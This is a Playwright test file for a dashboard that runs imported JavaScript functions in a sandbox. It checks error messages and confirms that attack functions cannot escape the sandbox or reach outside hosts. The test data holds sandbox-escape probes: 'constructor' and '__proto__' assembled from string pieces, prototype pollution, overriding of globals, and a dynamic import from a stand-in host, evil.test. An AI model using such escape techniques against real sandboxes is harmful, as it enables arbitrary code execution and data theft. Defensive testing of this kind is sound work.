import { describe, expect } from 'vitest'
import type { Page } from 'playwright-core'
import { browserTest } from '#e2e/platform/browser-test.ts'
import { attacks, attackedCsv, definitionOf } from '#e2e/sandbox-attacks.ts'

const harmless = [
  [
    'a constructor by parts',
    '(data) => { const c = "constr" + "uctor"; return data[c][c]("return typeof fetch === \'undefined\' && typeof self === \'undefined\' ? 7 : 8")() }',
    '7',
  ],
  [
    'the prototype of all objects',
    '(data) => { const p = "__pro" + "to__"; const o = {}; o[p].size = 1; return 3 }',
    '3',
  ],
  ['a column that is called __proto__', '(data) => data.filter((row) => Object.keys(row).length === 4).length', '200'],
  ['the rows after a change', '(data) => { data[0].seats = 1e9; return data[0].seats }', '0'],
  ['a change of what others use', '(data) => { JSON.stringify = () => "no"; rows = []; return 5 }', '5'],
  ['the function after it', '(data) => data.map((row) => row.seats).length', '200'],
  ['the time', '(data) => Math.abs(Date.now() - new Date().getTime()) < 60000 ? 1 : 2', '1'],
  ['the time zone', '(data) => new Date("2025-06-01T12:00:00").getHours() + new Date().getTimezoneOffset()', '12'],
] as const

async function open(page: Page, name: string): Promise<void> {
  await page
    .locator('input[type=file]')
    .first()
    .setInputFiles({ name, mimeType: 'text/csv', buffer: Buffer.from(attackedCsv) })
  await page.getByRole('region', { name: 'Number of rows', exact: true }).getByText('200').waitFor()
}

const importText = (page: Page, text: string) =>
  page
    .getByLabel('JSON file with a dashboard')
    .setInputFiles({ name: 'dashboard.json', mimeType: 'application/json', buffer: Buffer.from(text) })

describe('a dashboard from elsewhere', () => {
  browserTest('is computed in the sandbox, filtered, and says what is wrong with its file', async ({ visit }) => {
    const page = await visit('/askBot', { as: 'admin@aurora.test', viewport: { width: 1400, height: 900 } })
    await open(page, 'Foreign.csv')
    await importText(page, '{')
    await page.getByText('The file is not JSON.').waitFor()
    const chart = {
      title: 'Seats by system',
      chartType: 'barChart',
      javascriptFunction:
        '(data) => Object.entries(data.reduce((all, row) => ({ ...all, [row.os]: (all[row.os] || 0) + row.seats }), {})).map(([x, y]) => ({ x, y }))',
    }
    const kpis = [
      ['Rows', '(data) => data.length'],
      ['Newest', '(data) => Number(data.map((row) => row.seen).sort().at(-1).slice(5, 7))'],
      ['Salary', '(data) => data[0].salary'],
      ['Import', '(data) => import("https://evil.test/")'],
      ['Text', '(data) => "many"'],
    ] as const
    await importText(page, definitionOf(kpis, [chart]))
    const part = page.getByRole('region', { name: 'These parts use imported functions.' })
    const kpi = (name: string) => part.getByRole('region', { name, exact: true })
    await kpi('Rows').getByText('200').waitFor()
    await kpi('Newest').getByText('9', { exact: true }).waitFor()
    await kpi('Rows').getByText('Calculated only once, by an imported function.').waitFor()
    await kpi('Salary').getByText('There is no column salary in this dataset.').waitFor()
    await kpi('Import').getByText('The function uses ImportExpression, which is not allowed.').waitFor()
    await kpi('Text').getByText('The function returned no usable result.').waitFor()
    await kpi('Seats by system').getByText('10,000').first().waitFor()
    expect(await page.getByRole('button', { name: /^Calculated twice/ }).count()).toBe(0)
    await page.getByLabel('os', { exact: true }).selectOption('Linux')
    await kpi('Rows').getByText('100').waitFor()
  })

  browserTest('cannot leave the sandbox, stop the page, or take its memory', async ({ visit }) => {
    const page = await visit('/askBot', { as: 'admin@aurora.test', viewport: { width: 1400, height: 900 } })
    await open(page, 'Attacked.csv')
    const part = page.getByRole('region', { name: 'These parts use imported functions.' })
    const outside: string[] = []
    page.on('request', (request) => {
      const own = [new URL(page.url()).origin, 'blob:null/']
      if (!own.some((begin) => request.url().startsWith(begin))) outside.push(request.url())
    })
    await importText(page, definitionOf(harmless))
    for (const [name, , value] of harmless)
      await part.getByRole('region', { name, exact: true }).getByText(value, { exact: true }).waitFor()
    expect(await page.evaluate(() => 'size' in {})).toBe(false)
    for (const attack of attacks) {
      const [name, , shown] = attack
      await importText(page, definitionOf([attack, ['Rows', '(data) => data.length']]))
      await part.getByRole('region', { name, exact: true }).getByText(shown).waitFor()
      // The page still responds and computes harmless functions.
      await part.getByRole('region', { name: 'Rows', exact: true }).getByText('200').waitFor()
    }
    expect(outside).toEqual([])
    expect(await page.locator('iframe').count()).toBe(0)
  })
})
